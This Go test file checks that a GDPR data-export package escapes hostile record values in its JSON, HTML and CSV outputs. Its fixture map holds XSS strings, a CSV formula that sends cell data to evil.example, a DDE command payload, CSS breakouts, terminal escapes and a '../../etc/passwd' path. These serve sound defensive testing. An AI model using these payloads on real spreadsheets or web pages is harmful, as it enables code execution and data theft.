package export

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	privacyv1alpha1 "github.com/dsr-operator/dsr-operator/api/v1alpha1"
	"github.com/dsr-operator/dsr-operator/internal/connector"
)

// hostile are record values that would become markup, script, formulas or terminal escapes if a
// renderer passed them through.
var hostile = map[string]any{
	"script":    `<script>alert(1)</script>`,
	"img":       `<img src=x onerror=alert(1)>`,
	"attr":      `" onmouseover="alert(1)`,
	"formula":   `=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"plus":      `+cmd|' /C calc'!A0`,
	"minus":     `-2+3`,
	"at":        `@SUM(1+1)`,
	"tab":       "\t=1+1",
	"cr":        "\r=1+1",
	"controls":  "a\x1b[31mred\x00nul\x07bell\u0085next",
	"nested":    map[string]any{"html": "<b>bold</b>", "n": 1},
	"styleEsc":  `</style><style>body{background:url(http://evil.example/x)}</style>`,
	"cssImport": `@import url(http://evil.example/a.css);`,
}

var big = strings.Repeat("<a>=x", 1<<20/5)

func hostileDoc(t *testing.T, inst *Installation) *Document {
	t.Helper()
	recs := []connector.Record{
		{Location: "public.customers", Data: hostile},
		{Location: "public.customers", Data: map[string]any{"script": "plain", "big": big}},
		{Location: "../../etc/passwd", Data: map[string]any{"x": 1}},
	}
	spec := &privacyv1alpha1.DataStoreSpec{Type: "postgres", Description: "<script>alert('store')</script>",
		Purposes: []string{"Order fulfilment", "=HYPERLINK(\"http://evil\")"}, DataCategories: []string{"contact details"},
		Retention: "10 years", Recipients: []string{"Parcel service"},
		Art15Context: privacyv1alpha1.Art15Context{Source: "Collected from you",
			AutomatedDecisionMaking: &privacyv1alpha1.AutomatedDecisionMaking{Used: true, Logic: "<i>score</i>"},
			ThirdCountries: &privacyv1alpha1.ThirdCountryTransfers{Transfers: []privacyv1alpha1.ThirdCountryTransfer{
				{Destination: "United States", Safeguards: "Standard contractual clauses"}}}}}
	return BuildWithContext(inst, Request{Namespace: "shop", Name: "copy-jane", UID: "u1"}, "GDPR", "sha256:00",
		time.Date(2026, 12, 3, 6, 0, 0, 0, time.UTC), []StoreInput{{Kind: "DataStore", Name: "shop-db", Spec: spec,
			Data: &connector.Collection{Records: recs}}})
}

func fullContext() *Installation {
	return &Installation{Controller: &Party{Name: "Example Shop GmbH", Email: "privacy@example.com"},
		DataProtectionOfficer:  &Party{Name: "A. Muster", Email: "dpo@example.com"},
		SupervisoryAuthorities: map[string]*Party{"GDPR": {Name: "Berliner Datenschutzbeauftragte", URL: "https://www.datenschutz-berlin.de"}}}
}

// hasRawControl reports a control character other than tab, newline and carriage return.
func hasRawControl(s string) bool {
	for _, r := range s {
		if (r < 0x20 && r != '\t' && r != '\n' && r != '\r') || (r >= 0x7f && r <= 0x9f) {
			return true
		}
	}
	return false
}

func TestJSONKeepsValuesAndEscapesControls(t *testing.T) {
	files, err := EncodeFiles(hostileDoc(t, nil), []privacyv1alpha1.ExportFormat{"json"}, 16<<20)
	if err != nil {
		t.Fatal(err)
	}
	raw := gunzipIf(t, files[0])
	// JSON escapes C0 controls (\u001b); C1 controls are valid JSON text and stay.
	if bytes.ContainsFunc(raw, func(r rune) bool { return r < 0x20 && r != '\n' }) {
		t.Fatal("the JSON holds a raw C0 control character")
	}
	var doc Document
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	got := doc.Stores[0].Locations[1].Records[0].Data // locations sorted: ../../etc/passwd, public.customers
	if got["controls"] != hostile["controls"] || got["formula"] != hostile["formula"] {
		t.Fatalf("JSON must carry values as stored, got %q / %q", got["controls"], got["formula"])
	}
}

func TestHTMLEscapesHostileContent(t *testing.T) {
	page, err := RenderHTML(hostileDoc(t, fullContext()))
	if err != nil {
		t.Fatal(err)
	}
	s := string(page)
	if hasRawControl(s) {
		t.Fatal("the page holds a raw control character")
	}
	// As text they are harmless (the DOM walk below checks that); as markup they are not.
	for _, bad := range []string{"<script", "<img", "<b>bold", "<i>score", "</style><style>"} {
		if strings.Contains(strings.ToLower(s), strings.ToLower(bad)) {
			t.Errorf("the page holds %q unescaped", bad)
		}
	}
	if !strings.Contains(s, "&lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Error("the script tag is not shown as text")
	}
	if !strings.Contains(s, strings.Repeat("&lt;a&gt;=x", 1000)) {
		t.Error("the 1 MB value is not on the page")
	}
	// Walk the DOM: only the template's elements, no event handler, no resource-loading element,
	// every link a mailto or https address of the context.
	allowed := map[string]bool{"html": true, "head": true, "meta": true, "title": true, "style": true, "body": true,
		"header": true, "main": true, "footer": true, "section": true, "h1": true, "h2": true, "h3": true, "h4": true,
		"p": true, "strong": true, "table": true, "caption": true, "thead": true, "tbody": true, "tr": true, "th": true,
		"td": true, "ul": true, "li": true, "address": true, "br": true, "a": true, "div": true}
	root, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	styles := 0
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if !allowed[n.Data] {
				t.Errorf("unexpected element <%s>", n.Data)
			}
			if n.Data == "style" {
				styles++
				if n.FirstChild == nil || strings.Contains(n.FirstChild.Data, "evil") {
					t.Error("the style element holds record contents")
				}
			}
			for _, a := range n.Attr {
				if strings.HasPrefix(a.Key, "on") || a.Key == "src" || (a.Key == "href" && !strings.HasPrefix(a.Val, "mailto:") && !strings.HasPrefix(a.Val, "https://")) {
					t.Errorf("unexpected attribute %s=%q on <%s>", a.Key, a.Val, n.Data)
				}
			}
			if n.Data == "html" && attr(n, "lang") != "en" {
				t.Error("the page sets no lang")
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(root)
	if styles != 1 {
		t.Errorf("%d style elements, want the template's one", styles)
	}
}

func attr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func TestCSVNeutralisesFormulasAndControls(t *testing.T) {
	raw, err := RenderCSV(hostileDoc(t, fullContext()))
	if err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	var sawFormula, sawBig bool
	for _, f := range zr.File {
		names[f.Name] = true
		if strings.Contains(f.Name, "..") || strings.HasPrefix(f.Name, "/") {
			t.Errorf("unsafe entry name %q", f.Name)
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		content, _ := io.ReadAll(rc)
		rc.Close()
		rows, err := csv.NewReader(bytes.NewReader(content)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %.40q would run as a formula", f.Name, cell)
				}
				if hasRawControl(cell) {
					t.Errorf("%s: cell %.40q holds a raw control character", f.Name, cell)
				}
				sawFormula = sawFormula || cell == "'"+hostile["formula"].(string)
				sawBig = sawBig || cell == big
			}
		}
	}
	for _, want := range []string{"about.csv", "missing.csv", "records/DataStore-shop-db/public.customers.csv", "records/DataStore-shop-db/etc_passwd.csv"} {
		if !names[want] {
			t.Errorf("no %s in %v", want, names)
		}
	}
	if !sawFormula || !sawBig {
		t.Errorf("the formula (quoted) or the 1 MB value is missing: %v %v", sawFormula, sawBig)
	}
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx",
		"\rx": "'\rx", "a=b": "a=b", "": "", "\x1b[0m": "\u241b[0m", "x\u0085": "x\ufffd", "line\nbreak": "line\nbreak"} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestMissingContextIsListed(t *testing.T) {
	doc := Build(Request{Name: "r"}, "GDPR", "", time.Now(), []StoreInput{{Kind: "DataStore", Name: "bare",
		Spec: &privacyv1alpha1.DataStoreSpec{Type: "redis"}, Data: &connector.Collection{}}})
	items := map[string]bool{}
	for _, m := range doc.Missing {
		items[m.Store+" "+m.Item] = true
	}
	for _, want := range []string{" controller", " dataProtectionOfficer", " supervisoryAuthorities.GDPR", "DataStore/bare purposes",
		"DataStore/bare source", "DataStore/bare automatedDecisionMaking", "DataStore/bare thirdCountries", "DataStore/bare retention"} {
		if !items[want] {
			t.Errorf("missing does not list %q: %v", want, items)
		}
	}
	if full := hostileDoc(t, fullContext()); len(full.Missing) != 0 {
		t.Errorf("a fully described store and installation list missing items: %+v", full.Missing)
	}
}

func TestEncodeFilesIsAllOrNothing(t *testing.T) {
	doc := hostileDoc(t, fullContext())
	all := []privacyv1alpha1.ExportFormat{"json", "csv", "html"}
	files, err := EncodeFiles(doc, all, 16<<20)
	if err != nil {
		t.Fatal(err)
	}
	total := 0
	for i, f := range files {
		if f.Format != all[i] || !strings.HasPrefix(f.SHA256, "sha256:") {
			t.Fatalf("file %d: %+v", i, f.Format)
		}
		total += len(f.Bytes)
	}
	if _, err := EncodeFiles(doc, all, total-1); err == nil {
		t.Fatal("over the limit by one byte, and not refused")
	} else if tl := (*TooLargeError)(nil); !errors.As(err, &tl) || tl.Size != total {
		t.Fatalf("want TooLargeError of %d bytes, got %v", total, err)
	}
}

func gunzipIf(t *testing.T, f *Encoded) []byte {
	t.Helper()
	if f.Encoding != "gzip" {
		return f.Bytes
	}
	zr, err := gzip.NewReader(bytes.NewReader(f.Bytes))
	if err != nil {
		t.Fatal(err)
	}
	raw, err := io.ReadAll(zr)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}
